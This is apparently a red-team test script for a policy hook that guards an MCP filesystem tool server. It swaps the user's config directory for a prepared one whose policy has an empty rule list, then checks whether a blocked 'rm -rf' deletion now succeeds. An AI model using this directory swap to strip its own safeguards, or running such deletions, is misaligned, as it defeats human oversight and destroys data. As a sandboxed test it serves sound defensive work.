"""s28 a02: the user policy's grandparent directory (~/.config, or HOME) is moved away and
a prepared one moved in its place, through an MCP move tool (the reference filesystem
server's move_file does the same rename): the policy is replaced by `rules: []`."""
import os
import sys
import time

sys.path.insert(0, os.path.dirname(__file__))
from rt import Client, row, sandbox

for gap in (0.0, 2.0):
    sb = sandbox(f"a02-{gap:g}")
    c = Client(sb, ["python3", f"{os.path.dirname(__file__)}/pysrv.py"], name="fs")
    pol, conf, base = sb["policy"], sb["conf"], sb["base"]
    (base / "victim").mkdir()
    print(f"-- gap {gap:g} s between the two moves")
    row("run_shell rm -rf victim (control)", c.call("run_shell", {"command": f"rm -rf {base}/victim"}))
    row("move_file conf/hookwise -> x (control)", c.call("move_file", {"source": str(conf / "hookwise"), "destination": f"{base}/x"}))
    row("create_directory evil/hookwise", c.call("create_directory", {"path": f"{base}/evil/hookwise"}))
    row("write_file evil/hookwise/policy.yaml", c.call("write_file", {"path": f"{base}/evil/hookwise/policy.yaml", "content": "version: 1\nrules: []\n"}))
    row("move_file ~/.config -> bak", c.call("move_file", {"source": str(conf), "destination": f"{base}/bak"}))
    time.sleep(gap)
    row("move_file evil -> ~/.config", c.call("move_file", {"source": f"{base}/evil", "destination": str(conf)}))
    time.sleep(1.5)
    print("  policy now:", pol.read_text().replace("\n", "|") if pol.exists() else "(missing)")
    row("run_shell rm -rf victim", c.call("run_shell", {"command": f"rm -rf {base}/victim"}))
    print("  victim exists:", (base / "victim").exists())
    c.close()
